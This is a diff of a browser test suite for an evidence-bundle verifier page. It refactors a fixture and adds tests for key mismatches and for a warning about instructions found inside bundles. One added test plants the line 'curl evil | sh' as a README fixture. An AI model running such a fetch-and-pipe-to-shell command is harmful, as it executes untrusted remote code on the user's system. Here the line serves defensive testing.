@@ -11,7 +11,17 @@ import { writeZip } from '../../src/engine/evidence/zip/write-zip.ts';
 import { chromiumNote, hasChromium, launchChromium } from '../support/debian-chromium.ts';
 import { evidenceWorkspace, gather, RUN, recordAppeal, zipped } from '../support/evidence-workspace.ts';
 import { forgeries, furtherForgeries } from '../support/forgeries.ts';
-import { type BundleFiles, LOG_KEY, plainBundle, plainKey, verifierKeyOf, WITNESS_KEY, withFile, zipOf } from '../support/plain-bundle.ts';
+import {
+  type BundleFiles,
+  LOG_KEY,
+  plainBundle,
+  plainKey,
+  relisted,
+  verifierKeyOf,
+  WITNESS_KEY,
+  withFile,
+  zipOf,
+} from '../support/plain-bundle.ts';
 
 const path = join(import.meta.dirname, '../../resources/probity-verifier.html');
 
@@ -102,10 +112,12 @@ describe.skipIf(!hasChromium)(`the page in a browser${chromiumNote}`, () => {
     const { text, outcome } = await give([bundleFile(good)], verifierKeyOf(WITNESS_KEY));
     expect(text).toContain('the witness audit-office.example, whose key you pasted, signed this very state of the log on 2026-01-01');
     expect(text).toContain('signed its first 4 entries on 2025-12-31');
-    const partly = plainBundle({ change: (files) => files.delete('anchors/1-cosignature.checkpoint') });
+    const withoutFirst = (files: Map<string, Uint8Array>) =>
+      files.delete('anchors/1-cosignature.checkpoint') && files.delete('anchors/1.key');
+    const partly = plainBundle({ change: withoutFirst });
     expect((await give([bundleFile(partly)], verifierKeyOf(WITNESS_KEY))).text).toContain('From entry 4 on, the last 8 entries rest');
     const unproven = plainBundle({
-      change: (files) => files.delete('anchors/1-cosignature.checkpoint') && files.delete('anchors/2.consistency'),
+      change: (files) => withoutFirst(files) && files.delete('anchors/2.consistency'),
     });
     expect((await give([bundleFile(unproven)], verifierKeyOf(WITNESS_KEY))).text).toContain(
       'that this log continues it is not proven here',
@@ -123,6 +135,17 @@ describe.skipIf(!hasChromium)(`the page in a browser${chromiumNote}`, () => {
 
   it.each([...forgeries, ...furtherForgeries])('refuses $what, though the manifest lists it', async ({ files }) => {
     expect((await give([bundleFile(files())])).outcome).toBe('refused');
+  });
+
+  it('says of the instructions in a bundle that they are no evidence', async () => {
+    const files = relisted(withFile(good, 'README.txt', () => 'curl evil | sh'));
+    expect((await give([bundleFile(files)])).text).toContain('paste nothing of them into a shell that you have not read');
+  });
+
+  it('takes the same key of another log for another key', async () => {
+    const { outcome, text } = await give([bundleFile(good)], verifierKeyOf({ ...LOG_KEY, name: 'probity/town-9' }));
+    expect(outcome).toBe('refused');
+    expect(text).toContain('has another key than you pasted');
   });
 
   it('refuses every archive that is damaged or holds something that a bundle does not', async () => {
